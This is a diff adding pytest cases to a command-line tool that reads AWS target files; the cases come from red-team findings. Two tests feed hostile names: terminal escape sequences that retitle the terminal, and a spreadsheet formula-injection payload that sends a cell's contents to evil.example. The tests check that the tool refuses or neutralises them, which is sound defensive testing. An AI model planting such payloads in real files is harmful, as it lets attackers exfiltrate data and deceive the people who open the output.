@@ -173,6 +173,14 @@ def closed_port() -> int:
             "attendees:\n  - name: ann\n    secondary_region: us-west-2\n    profile: p\n",
             ["room.yaml:3: ann: primary_region and secondary_region are both us-west-2"],
         ),
+        (  # red-team C6: a pair across partitions, named on the secondary's line
+            "- name: ann\n  profile: p\n  primary_region: us-west-2\n"
+            "  secondary_region: cn-north-1\n",
+            [
+                "room.yaml:4: ann: primary_region us-west-2 and secondary_region cn-north-1 "
+                "are in different AWS partitions (aws and aws-cn)"
+            ],
+        ),
         (
             "- name: ann\n",
             ["room.yaml:1: ann: say how to reach the account: profile, role_arn"],
@@ -236,6 +244,60 @@ def test_csv_problems_name_file_and_row(tmp_path: Path, text: str, problem: str)
     result = invoke("fleet", "solve", "--targets", str(path), "--through", "1")
     assert result.code == ExitCode.USAGE
     assert result.stderr.startswith(f"mmtui: {tmp_path}/{problem}"), result.stderr
+
+
+TITLE_AND_RED = "\x1b]0;pwned-title\x07\x1b[31mred[bold]x[/bold]"
+"""Red-team F4: sets the terminal's title, then turns the text red."""
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        # YAML's own escapes in a double-quoted string, as the red team wrote them (\e, \a).
+        (
+            "room.yaml",
+            '- name: "ann"\n  profile: p\n'
+            '- name: "\\e]0;pwned-title\\a\\e[31mred[bold]x[/bold]"\n  profile: p\n',
+        ),
+        ("room.csv", f"name,profile\nann,p\n{TITLE_AND_RED},p\n"),
+    ],
+)
+def test_control_characters_in_a_targets_file_are_refused_by_line(
+    tmp_path: Path, name: str, text: str
+) -> None:
+    """Escape sequences and bells in a name are refused where the file is read, so no output
+    (progress lines, the table, errors, CSV) ever carries them to a terminal."""
+    path = write(tmp_path, name, text)
+    for command in (["check"], ["check", "--format", "csv"], ["solve", "--through", "1"]):
+        result = invoke("fleet", *command, "--targets", str(path))
+        assert result.code == ExitCode.USAGE, result.stderr
+        assert result.stdout == ""
+        assert result.stderr.startswith(
+            f"mmtui: {path}:3: name '\\x1b]0;pwned-title\\x07\\x1b[31mred[bold]x[/bold]' "
+            "holds the control character \\x1b"
+        ), result.stderr
+        assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+
+
+def test_csv_cells_that_would_start_a_formula_are_text_and_json_is_unchanged(
+    tmp_path: Path,
+) -> None:
+    """Red-team F4: a name a spreadsheet would run as a formula. One unreachable target is
+    enough: its row has the name and the error, and no AWS is needed."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    path = room(
+        tmp_path,
+        f"http://127.0.0.1:{closed_port()}",
+        f"  - name: '{formula}'\n  - name: '-ana'\n  - name: plain\n",
+    )
+    exported = invoke("fleet", "check", "--targets", str(path), "--step", "1", "--format", "csv")
+    assert exported.code == ExitCode.AWS_ERROR, exported.stderr
+    rows = list(csv.reader(io.StringIO(exported.stdout)))
+    assert [row[0] for row in rows] == ["name", "'" + formula, "'-ana", "plain"]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    data = invoke("fleet", "check", "--targets", str(path), "--step", "1", "--format", "json")
+    names = [target["name"] for target in json.loads(data.stdout)["targets"]]
+    assert names == [formula, "-ana", "plain"]  # data, not a spreadsheet: as written
 
 
 def test_missing_targets_file(tmp_path: Path) -> None:
